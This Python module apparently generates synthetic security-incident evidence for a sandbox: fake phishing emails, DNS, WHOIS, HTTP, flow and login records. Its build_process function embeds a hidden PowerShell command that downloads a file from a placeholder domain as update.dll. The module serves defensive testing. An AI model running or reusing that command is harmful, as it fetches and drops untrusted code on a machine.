"""Raw evidence of events, in the forms of sensors, mail gateways and analysts.

Each builder receives the event's own domain and address, so that the evidence agrees with the indicators.
"""

from collections.abc import Callable

from cf1_mcp.sandbox.sample.sample_event import JsonObject, SeededRandom, fake_hash

_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:140) Gecko/20100101",
    "python-requests/2.31",
    "curl/8.5",
    "Go-http-client/1.1",
)
_PEOPLE = ("a-weber", "j-novak", "m-huber", "s-okafor", "t-silva", "k-tanaka", "l-dubois", "e-larsen")
_SUBJECTS = (
    "Overdue statement",
    "Updated agenda",
    "Your interview",
    "New payment details",
    "Tender documents",
    "Mailbox full",
)
_FILES = ("statement.docm", "agenda.lnk", "offer.pdf.exe", "update.dll", "backup.iso", "invoice.xlsm", "codec.exe")
_PATHS = ("/owa/auth.php", "/api/v1/session", "/remote/logincheck", "/cgi-bin/status", "/wp-login.php", "/gate.php")


def build_email(rng: SeededRandom, domain: str, ip: str) -> JsonObject:
    sender = f"{rng.pick(('billing', 'hr', 'notice', 'support'))}@{domain}"
    name = rng.pick(_FILES)
    return {
        "headers": {
            "From": sender,
            "To": f"{rng.pick(_PEOPLE)}@example.org",
            "Reply-To": sender,
            "Subject": rng.pick(_SUBJECTS),
            "Message-ID": f"<{rng.below(10**9)}@{domain}>",
            "X-Originating-IP": f"[{ip}]",
            "Authentication-Results": f"mx.example.org; spf={rng.pick(('pass', 'softfail', 'none'))}; dkim=none",
        },
        "attachments": [{"name": name, "sha256": fake_hash(name + domain), "size": 20_000 + rng.below(400_000)}],
    }


def build_dns(rng: SeededRandom, domain: str, ip: str) -> JsonObject:
    return {
        "question": {"name": domain, "type": "AAAA" if ":" in ip else "A"},
        "rcode": "NOERROR",
        "answers": [{"name": domain, "ttl": rng.pick((60, 300, 3600)), "data": ip}],
        "nameServers": [f"ns{number}.{domain.split('.', 1)[1]}" for number in (1, 2)],
        "clients": 1 + rng.below(40),
    }


def build_http(rng: SeededRandom, domain: str, ip: str) -> JsonObject:
    verb = rng.pick(("GET", "POST", "POST"))
    return {
        "request": f"{verb} {rng.pick(_PATHS)} HTTP/1.1",
        "headers": {"Host": domain, "User-Agent": rng.pick(_AGENTS), "Accept": "*/*"},
        "status": rng.pick((200, 200, 302, 403, 500)),
        "clientIp": ip,
        "bytes": rng.below(90_000),
    }


def build_whois(rng: SeededRandom, domain: str, ip: str) -> JsonObject:
    return {
        "domain": domain,
        "registrar": rng.pick(("Example Registrar One", "Example Registrar Two")),
        "ageDays": 1 + rng.below(30),
        "nameServers": ["ns1.example.net", "ns2.example.net"],
        "registrant": {"email": f"hostmaster@{domain}", "country": rng.pick(("PA", "SC", "IS", "BZ"))},
        "resolvesTo": [ip],
    }


def build_file(rng: SeededRandom, domain: str, ip: str) -> JsonObject:
    name = rng.pick(_FILES)
    seed = f"{name} {rng.below(10**6)}"
    return {
        "name": name,
        "size": 8_000 + rng.below(4_000_000),
        "sha256": fake_hash(seed),
        "magic": rng.pick(("PE32+ executable", "Composite Document File", "ISO 9660", "MS Windows shortcut")),
        "contacts": [domain, ip],
        "signed": rng.chance(0.2),
    }


def build_process(rng: SeededRandom, domain: str, ip: str) -> JsonObject:
    return {
        "host": f"WS-{1000 + rng.below(9000)}",
        "user": rng.pick(_PEOPLE),
        "parent": rng.pick(("winword.exe", "explorer.exe", "services.exe", "w3wp.exe")),
        "commandLine": f"powershell -w hidden -c iwr https://{domain}/{rng.below(9999)} -OutFile update.dll",
        "remoteAddress": ip,
    }


def build_flow(rng: SeededRandom, domain: str, ip: str) -> JsonObject:
    return {
        "destination": {"address": ip, "serverName": domain, "port": rng.pick((443, 443, 8443, 53, 4433))},
        "ja3": fake_hash(f"flow {rng.below(20)}")[:32],
        "bytesOut": 1_000 + rng.below(80_000_000),
        "bytesIn": 500 + rng.below(900_000),
        "intervalSeconds": rng.pick((30, 60, 300, 3600)),
    }


def build_login(rng: SeededRandom, domain: str, ip: str) -> JsonObject:
    return {
        "service": rng.pick(("vpn", "mail", "sso")),
        "account": f"{rng.pick(_PEOPLE)}@example.org",
        "sourceIp": ip,
        "result": rng.pick(("failure", "failure", "success")),
        "mfa": rng.pick(("not asked", "denied", "approved")),
        "userAgent": rng.pick(_AGENTS),
        "referrer": f"https://{domain}/",
    }


EvidenceBuilder = Callable[[SeededRandom, str, str], JsonObject]
